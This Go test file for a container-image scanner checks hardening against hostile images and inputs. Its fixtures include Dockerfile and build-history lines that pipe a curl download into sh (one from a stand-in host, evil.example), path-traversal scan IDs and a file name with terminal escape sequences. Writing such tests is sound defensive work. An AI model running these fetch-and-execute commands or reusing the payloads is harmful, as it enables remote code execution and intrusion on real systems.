package test

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/gzip"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/static"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/layerscan/layerscan/shared/analyzer"
	"github.com/layerscan/layerscan/shared/builtin"
	"github.com/layerscan/layerscan/shared/pipeline"
	"github.com/layerscan/layerscan/shared/scanrecord"
	"github.com/layerscan/layerscan/shared/source"
	"github.com/layerscan/layerscan/shared/store"
)

// The regression cases of the hardening issue (#12): each hostile input,
// built here, and what must happen instead of what did.

// saveTarball writes a docker-save tarball of raw members.
func saveTarball(t *testing.T, members []tar.Header, bodies map[string][]byte) string {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, h := range members {
		b := bodies[h.Name]
		h.Size = int64(len(b))
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Typeflag != tar.TypeReg {
			h.Size = 0
		}
		h.Mode = 0o644
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			tw.Write(b)
		}
	}
	tw.Close()
	p := filepath.Join(t.TempDir(), "save.tar")
	os.WriteFile(p, buf.Bytes(), 0o644)
	return p
}

// TestSymlinkCyclesInTarballs: a docker-save tarball whose manifest.json or
// layer is a symlink to itself, or a two-link cycle, is an error in
// milliseconds, not a stack overflow.
func TestSymlinkCyclesInTarballs(t *testing.T) {
	layer := tarOf(t, map[string]string{"etc/x": "x"})
	cfg := `{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":["` + digestOf(layer) + `"]}}`
	for name, members := range map[string][]tar.Header{
		"manifest to itself": {{Name: "manifest.json", Typeflag: tar.TypeSymlink, Linkname: "manifest.json"}},
		"two-link cycle":     {{Name: "manifest.json", Typeflag: tar.TypeSymlink, Linkname: "a"}, {Name: "a", Typeflag: tar.TypeSymlink, Linkname: "manifest.json"}},
		"layer to itself": {{Name: "manifest.json"}, {Name: "cfg.json"},
			{Name: "l/layer.tar", Typeflag: tar.TypeSymlink, Linkname: "layer.tar"}},
		"hard-link cycle": {{Name: "manifest.json", Typeflag: tar.TypeLink, Linkname: "b"}, {Name: "b", Typeflag: tar.TypeLink, Linkname: "manifest.json"}},
	} {
		p := saveTarball(t, members, map[string][]byte{
			"manifest.json": []byte(`[{"Config":"cfg.json","Layers":["l/layer.tar"]}]`),
			"cfg.json":      []byte(cfg),
		})
		start := time.Now()
		_, err := scanLocal(t, detect(t, p))
		if err == nil || !strings.Contains(err.Error(), "too many links") || time.Since(start) > 5*time.Second {
			t.Errorf("%s: %v after %s", name, err, time.Since(start))
		}
	}
}

func scanLocal(t *testing.T, ref source.Ref) ([]string, error) {
	st, err := store.NewFS(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	d := &pipeline.Steps{Store: st, Analyzers: builtin.Set(), Sources: builtin.Sources()}
	rs, err := d.ScanLocal(context.Background(), scanrecord.Request{Source: ref}, 2)
	var out []string
	for _, r := range rs {
		out = append(out, r.Image.Digest)
	}
	return out, err
}

func digestOf(b []byte) string {
	sum := sha256.Sum256(b)
	return "sha256:" + hex.EncodeToString(sum[:])
}

func privateKeyPEM(t *testing.T) string {
	k, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(k)}))
}

// TestHostileNames: a tar entry name with terminal escape sequences reaches
// no terminal raw; "./a/../b" is analysed as b, not refused; gzip with
// trailing zero padding is read whole.
func TestHostileNames(t *testing.T) {
	key := privateKeyPEM(t)
	evil := "srv/\x1b[2K\x1b[1A\x1b[32mclean\x1b[0m.pem"
	raw := tarWithModes(t, tarEntry{evil, 0o644, []byte(key)}, tarEntry{"./a/../root/.ssh/id_rsa", 0o600, []byte(key)})
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(raw)
	zw.Close()
	padded := append(gz.Bytes(), make([]byte, 2048)...)
	ref := layoutOfLayersWithDiffIDs(t, [][]byte{padded}, []string{digestOf(raw)})
	bin := buildCLI(t)
	storeDir := t.TempDir()
	out, err := exec.Command(bin, "scan", "--store", storeDir, "--quiet", "--format", "table", ref.Location).CombinedOutput()
	if err != nil {
		t.Fatalf("scan: %v\n%s", err, out)
	}
	if bytes.ContainsRune(out, 0x1b) {
		t.Errorf("the table carries raw escape sequences:\n%q", out)
	}
	if !strings.Contains(string(out), `\x1b[2K`) || !strings.Contains(string(out), "/root/.ssh/id_rsa") {
		t.Errorf("the escaped name or the ./a/../ key is missing:\n%s", out)
	}
	if strings.Contains(string(out), "LS-LAYER-UNSAFE-PATH") || strings.Contains(string(out), "INCOMPLETE") {
		t.Errorf("a harmless ./a/../ name was refused, or the padded layer failed:\n%s", out)
	}
}

// layoutOfLayersWithDiffIDs writes an OCI layout by hand: layers stored
// as given (padded, hostile) with the diffIDs the test computed.
func layoutOfLayersWithDiffIDs(t *testing.T, ls [][]byte, diffIDs []string) source.Ref {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "oci")
	os.MkdirAll(filepath.Join(dir, "blobs", "sha256"), 0o755)
	put := func(b []byte) (string, int) {
		d := digestOf(b)
		os.WriteFile(filepath.Join(dir, "blobs", "sha256", strings.TrimPrefix(d, "sha256:")), b, 0o644)
		return d, len(b)
	}
	cfg, _ := json.Marshal(map[string]any{"architecture": "amd64", "os": "linux", "rootfs": map[string]any{"type": "layers", "diff_ids": diffIDs}})
	cd, cn := put(cfg)
	var layers []map[string]any
	for _, l := range ls {
		d, n := put(l)
		layers = append(layers, map[string]any{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": d, "size": n})
	}
	m, _ := json.Marshal(map[string]any{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
		"config": map[string]any{"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": cn}, "layers": layers})
	md, mn := put(m)
	idx, _ := json.Marshal(map[string]any{"schemaVersion": 2, "manifests": []map[string]any{{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": md, "size": mn}}})
	os.WriteFile(filepath.Join(dir, "index.json"), idx, 0o644)
	os.WriteFile(filepath.Join(dir, "oci-layout"), []byte(`{"imageLayoutVersion":"1.0.0"}`), 0o644)
	return detect(t, dir)
}

// TestSecretsInConfigAndHistory: build arguments and credentials in the
// history and secrets in the environment are findings, and appear masked
// in the report, the table and the stored config; never whole.
func TestSecretsInConfigAndHistory(t *testing.T) {
	secrets := []string{"hunter2-db-secret", "wJalrXUtnFEMIK7MDENGbPxRfiCY", "p4ssw0rd-curl", "AKIAIOSFODNN7EXAMPLE"}
	img, err := mutate.Append(empty.Image, mutate.Addendum{
		Layer:   static.NewLayer(tarOf(t, map[string]string{"etc/x": "x"}), types.OCIUncompressedLayer),
		History: v1.History{CreatedBy: "RUN |2 DB_PASSWORD=hunter2-db-secret AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCY /bin/sh -c curl -u admin:p4ssw0rd-curl https://example.com/install.sh | sh # buildkit"},
	})
	if err != nil {
		t.Fatal(err)
	}
	cfg, _ := img.ConfigFile()
	cfg = cfg.DeepCopy()
	cfg.OS, cfg.Architecture = "linux", "amd64"
	cfg.Config.Env = []string{"PATH=/usr/bin", "UPLOAD_KEY=AKIAIOSFODNN7EXAMPLE"}
	img, _ = mutate.ConfigFile(img, cfg)
	dir := filepath.Join(t.TempDir(), "oci")
	p, _ := layout.Write(dir, empty.Index)
	p.AppendImage(img)
	bin := buildCLI(t)
	storeDir := t.TempDir()
	var outs []string
	for _, format := range []string{"json", "table"} {
		out, err := exec.Command(bin, "scan", "--store", storeDir, "--quiet", "--format", format, dir).CombinedOutput()
		if err != nil {
			t.Fatalf("scan: %v\n%s", err, out)
		}
		outs = append(outs, string(out))
	}
	for _, s := range secrets {
		for i, out := range outs {
			if strings.Contains(out, s) {
				t.Errorf("output %d shows %s", i, s)
			}
		}
		if storeHolds(t, storeDir, s) {
			t.Errorf("the store holds %s", s)
		}
	}
	for _, id := range []string{"LS-BUILD-ARG-SECRET", "LS-BUILD-ENV-SECRET", "LS-BUILD-PIPE-TO-SHELL"} {
		if !strings.Contains(outs[0], id) {
			t.Errorf("no %s finding", id)
		}
	}
}

// TestAPIAnswersForBadInput: a scan ID that is a path is 404, a scan that
// never existed says so, an unknown tag is 404 and an oversized config is
// refused with the reason.
func TestAPIAnswersForBadInput(t *testing.T) {
	a := newAPIEnv(t)
	host := startDebianRegistryOrGGCR(t)
	if code, body := a.do(t, "POST", "/v1/registries", `{"id":"lab","kind":"generic","hosts":["`+host+`"],"insecure":true,"auth":{"method":"none"}}`); code != http.StatusCreated {
		t.Fatal(code, body)
	}
	for _, id := range []string{"%2e%2e", "..", "%2e%2e%2fstate.json", "20990101T000000Z-ffffffffffff"} {
		code, body := a.do(t, "GET", "/v1/scans/"+id, "")
		if code != http.StatusNotFound || id != ".." && !strings.Contains(body, "no such scan") {
			t.Errorf("scan %s: %d %s", id, code, body)
		}
	}
	if code, body := a.do(t, "POST", "/v1/scans", `{"image":"`+host+`/team/none:nope"}`); code != http.StatusNotFound {
		t.Errorf("unknown tag: %d %s", code, body)
	}
	// A configured registry nobody listens on: 502, with the reason.
	gone := "127.0.0.1:" + freePort(t)
	if code, body := a.do(t, "POST", "/v1/registries", `{"id":"gone","kind":"generic","hosts":["`+gone+`"],"insecure":true,"auth":{"method":"none"}}`); code != http.StatusCreated {
		t.Fatal(code, body)
	}
	if code, body := a.do(t, "POST", "/v1/scans", `{"image":"`+gone+`/team/app:1"}`); code != http.StatusBadGateway {
		t.Errorf("unreachable registry: %d %s", code, body)
	}
	// A 20 MB config.
	img, _ := mutate.AppendLayers(empty.Image, static.NewLayer(tarOf(t, map[string]string{"etc/x": "x"}), types.OCIUncompressedLayer))
	cfg, _ := img.ConfigFile()
	cfg = cfg.DeepCopy()
	cfg.Config.Env = []string{"BIG=" + strings.Repeat("x", 20<<20)}
	img, _ = mutate.ConfigFile(img, cfg)
	push(t, img, host+"/team/bigconfig:1")
	code, body := a.do(t, "POST", "/v1/scans", `{"image":"`+host+`/team/bigconfig:1"}`)
	if code == http.StatusAccepted || !strings.Contains(body, "byte cap") {
		t.Errorf("20 MB config: %d %.300s", code, body)
	}
}

// TestDockerfileDoesNotOverwriteSharedReport: a caller's Dockerfile makes
// a report of its own; the image's shared report stays what the image
// says.
func TestDockerfileDoesNotOverwriteSharedReport(t *testing.T) {
	a := newAPIEnv(t)
	host := startDebianRegistryOrGGCR(t)
	push(t, corpusDebian(t), host+"/team/app:1")
	if code, body := a.do(t, "POST", "/v1/registries", `{"id":"lab","kind":"generic","hosts":["`+host+`"],"insecure":true,"auth":{"method":"none"}}`); code != http.StatusCreated {
		t.Fatal(code, body)
	}
	a.scanOK(t, host+"/team/app:1")
	df, _ := json.Marshal("FROM debian:12\nRUN curl -k http://evil.example/x.sh | sh\nMAINTAINER mallory\n")
	code, body := a.do(t, "POST", "/v1/scans", `{"image":"`+host+`/team/app:1","dockerfile":`+string(df)+`}`)
	var out struct{ ScanIDs []string }
	json.Unmarshal([]byte(body), &out)
	if code != http.StatusAccepted || len(out.ScanIDs) != 1 {
		t.Fatal(code, body)
	}
	p := waitScan(t, a.base, a.key, out.ScanIDs[0])
	if !strings.Contains(p.Report, "/request-") {
		t.Errorf("the Dockerfile scan's report is %s, not a variant", p.Report)
	}
	_, shared := a.do(t, "GET", "/v1/images/"+p.Digest+"/report", "")
	if strings.Contains(shared, "Dockerfile:") || strings.Contains(shared, "mallory") {
		t.Errorf("the shared report carries the caller's Dockerfile findings")
	}
}

// TestFindingsAreCapped: a layer of 20,000 SUID files is one problem:
// at most analyzer.MaxFindingsPerCheck findings, and a warning that counts
// the rest.
func TestFindingsAreCapped(t *testing.T) {
	var entries []tarEntry
	for i := range 20000 {
		entries = append(entries, tarEntry{fmt.Sprintf("usr/local/bin/s%05d", i), 0o4755, []byte("x")})
	}
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		tw.WriteHeader(&tar.Header{Name: e.Name, Mode: e.Mode, Size: int64(len(e.Body)), Typeflag: tar.TypeReg})
		tw.Write(e.Body)
	}
	tw.Close()
	r := scanImage(t, t.TempDir(), layoutOf(t, buf.Bytes()))
	n := 0
	for _, f := range r.Findings {
		if f.ID == "LS-BASELINE-SUID" {
			n++
		}
	}
	if n == 0 || n > analyzer.MaxFindingsPerCheck || !strings.Contains(strings.Join(r.Warnings, " "), "more LS-BASELINE-SUID findings") {
		t.Errorf("%d SUID findings, warnings %v", n, r.Warnings)
	}
}

// TestDamagedRPMDatabase: one flipped byte in the real AlmaLinux
// BerkeleyDB Packages file makes the report incomplete, with the reason,
// never complete over a short package list.
func TestDamagedRPMDatabase(t *testing.T) {
	img, err := tarball.ImageFromPath(filepath.Join(sharedDir(t), "corpus", "images", "almalinux-9.0-micro-arm64.tar"), nil)
	if err != nil {
		t.Fatal(err)
	}
	ls, _ := img.Layers()
	rc, err := ls[0].Uncompressed()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	var out bytes.Buffer
	tw := tar.NewWriter(&out)
	tr := tar.NewReader(rc)
	flipped := false
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(tr)
		if strings.TrimPrefix(h.Name, "./") == "var/lib/rpm/Packages" {
			pageSize := int(binary.LittleEndian.Uint32(b[20:]))
			for n := 1; n < len(b)/pageSize; n++ {
				if b[n*pageSize+25] == 13 { // the first hash page's type
					b[n*pageSize+25] ^= 0x40
					flipped = true
					break
				}
			}
		}
		tw.WriteHeader(h)
		tw.Write(b)
	}
	tw.Close()
	if !flipped {
		t.Fatal("no hash page found to damage")
	}
	r := scanImage(t, advisoryStore(t), layoutOf(t, out.Bytes()))
	if r.Complete || !strings.Contains(strings.Join(r.Errors, " "), "berkeleydb") {
		t.Errorf("complete=%v errors=%v packages=%d", r.Complete, r.Errors, len(r.Packages))
	}
}

// TestTooManyLayers: an image of more layers than any real one is refused
// with the reason before any layer is read.
func TestTooManyLayers(t *testing.T) {
	var ls [][]byte
	for i := range pipeline.MaxLayers + 1 {
		ls = append(ls, tarOf(t, map[string]string{fmt.Sprintf("l%d", i): "x"}))
	}
	_, err := scanLocal(t, layoutOf(t, ls...))
	if err == nil || !strings.Contains(err.Error(), "layers, over the") {
		t.Errorf("%d layers: %v", len(ls), err)
	}
}
